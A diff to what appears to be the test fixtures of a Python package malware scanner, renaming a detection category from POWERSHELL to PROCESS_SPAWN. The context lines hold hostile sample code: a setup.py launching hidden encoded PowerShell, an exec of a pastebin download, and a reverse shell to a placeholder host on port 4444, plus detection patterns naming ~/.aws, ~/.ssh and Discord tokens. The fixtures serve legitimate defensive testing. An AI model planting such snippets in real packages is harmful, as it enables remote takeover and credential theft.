@@ -36,7 +36,7 @@ SUSPICIOUS_HOST = "code.shady-url"  # Discord/Telegram/ngrok/pastebin/raw IP end
 CREDENTIALS = "code.credential-access"  # ~/.aws, ~/.ssh, browser Login Data, Discord tokens
 PTH_EXEC = "code.startup-hook"  # executable line in a .pth file, sitecustomize.py
 DOWNLOAD_EXEC = "code.download-exec"  # fetch, write, chmod, run
-POWERSHELL = "code.process-spawn"  # a command that fetches or hides code (-EncodedCommand)
+PROCESS_SPAWN = "code.process-spawn"  # a command that fetches or hides code (-EncodedCommand)
 OBFUSCATION = "code.obfuscation"  # chr()-joins, getattr(__builtins__, ...), string-built names
 PACKED = "code.obfuscation"  # PyArmor-like runtime stubs with an opaque blob
 UNICODE = "code.invisible-unicode"  # bidi controls or invisible characters in source
@@ -223,7 +223,7 @@ _add("powershell-encoded", "quarrystone", "PowerShell -EncodedCommand from setup
          "import subprocess, sys\nif sys.platform == 'win32':\n"
          f"    subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', '{_PS}'])\n",
          "quarrystone")}),
-     (POWERSHELL, DECODE_EXEC))  # fmt: skip
+     (PROCESS_SPAWN, DECODE_EXEC))  # fmt: skip
 
 _add("fetch-pastebin-exec", "noctilume", "exec(urlopen('https://pastebin.com/raw/...').read())",
      _sd("noctilume", {"setup.py": _setup(
@@ -277,7 +277,7 @@ _add("raw-ip-reverse-shell", "emberquay", "socket to a raw IP with the shell on 
          f"    s = socket.socket(); s.connect(('{HOST}', 4444))\n"
          "    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n"
          "    pty.spawn('/bin/sh')\n\n\nif os.fork() == 0:\n    _connect()\n", "emberquay")}),
-     (SUSPICIOUS_HOST, POWERSHELL), Severity.HIGH)  # fmt: skip
+     (SUSPICIOUS_HOST, PROCESS_SPAWN), Severity.HIGH)  # fmt: skip
 
 _add("discord-token-grab", "velvetroost", "reads Discord leveldb tokens and posts to a webhook",
      _wh("velvetroost", {"velvetroost/__init__.py":
